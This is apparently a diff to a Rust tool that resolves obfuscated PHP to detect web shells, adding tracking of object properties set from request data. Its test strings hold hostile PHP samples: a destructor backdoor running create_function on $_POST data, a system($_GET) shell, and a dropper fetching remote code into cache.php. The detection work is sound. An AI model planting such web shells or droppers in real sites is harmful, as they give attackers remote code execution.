@@ -952,6 +952,9 @@ struct Resolver<'t, 'a> {
     /// `extract($_REQUEST)` ran at the top level: any variable never assigned there holds
     /// whatever the visitor sent under its name.
     extracted: bool,
+    /// Object properties the file sets straight from the request (`$o->p = &$_POST['x'];`):
+    /// read anywhere (`$this->p` in a destructor), they are request data.
+    tainted_props: HashSet<Vec<u8>>,
 }
 
 /// An assignment read, stored once the main pass has walked its value (`end`).
@@ -1489,6 +1492,10 @@ impl<'t, 'a> Resolver<'t, 'a> {
                     ..Ev::unknown(end)
                 })
             }
+            Some(Tok::Ident(p)) if self.tainted_props.contains(*p) => Ok(Ev {
+                disguise: true,
+                ..Ev::new(Val::Tainted(Taint::Request), i + 1, true)
+            }),
             Some(Tok::Ident(_) | Tok::Var(_)) => Ok(Ev::unknown(i + 1)),
             _ => Err(Ev::unknown(i)),
         }
@@ -1949,6 +1956,7 @@ fn resolve_in(src: &[u8], env: &mut Env, nesting: usize, want_plain: bool) -> Re
         hidden_code: false,
         decoded_vars: HashSet::default(),
         extracted: false,
+        tainted_props: tainted_props(&toks),
     };
     let (mut w, mut plain) = (
         Writer::new(true, false, 1024),
@@ -1994,6 +2002,26 @@ fn resolve_in(src: &[u8], env: &mut Env, nesting: usize, want_plain: bool) -> Re
         plain: plain.out,
         disguised: w.disguised,
     }
+}
+
+/// Properties assigned a superglobal directly anywhere in the file (`$o->p = &$_POST['x']`).
+fn tainted_props(toks: &[Tok]) -> HashSet<Vec<u8>> {
+    let mut out = HashSet::default();
+    for w in toks.windows(6) {
+        let p = match w {
+            [Tok::Var(_), Tok::Punct(b"->"), Tok::Ident(p), Tok::Punct(b"="), Tok::Var(v), _]
+            | [Tok::Var(_), Tok::Punct(b"->"), Tok::Ident(p), Tok::Punct(b"="), Tok::Punct(b"&"), Tok::Var(v)]
+                if source_var(v).is_some() =>
+            {
+                p
+            }
+            _ => continue,
+        };
+        if out.len() < 1000 {
+            out.insert(p.to_vec());
+        }
+    }
+    out
 }
 
 /// `$h = fopen('cache.php', 'w'); … fwrite($h, __REMOTE__);`: the resolved writes name the file
@@ -2521,6 +2549,9 @@ mod tests {
         // an assignment in parentheses is read like one on its own line
         let t = text("<?php if ($c = base64_decode('c3lzdGVt')) { $c($_GET['x']); }");
         assert!(t.contains("system($_GET"), "{t}");
+        // a property set from the request, read in a destructor
+        let t = text("<?php class O { function __destruct() { $f = 'create_' . 'function'; @$f = $f('', $this->c); return @$f(); } } $o = new O(); @$o->c = &$_POST['t'];");
+        assert!(t.contains("create_function('',$_POST['request'])"), "{t}");
         // a dropper writing through a file handle names the file it writes
         let t = text("<?php $c = file_get_contents('http://x.example.invalid/c.txt'); $fo = fopen('cache.php', 'w+'); fwrite($fo, $c); fclose($fo);");
         assert!(t.contains("fwrite('cache.php',__REMOTE__)"), "{t}");
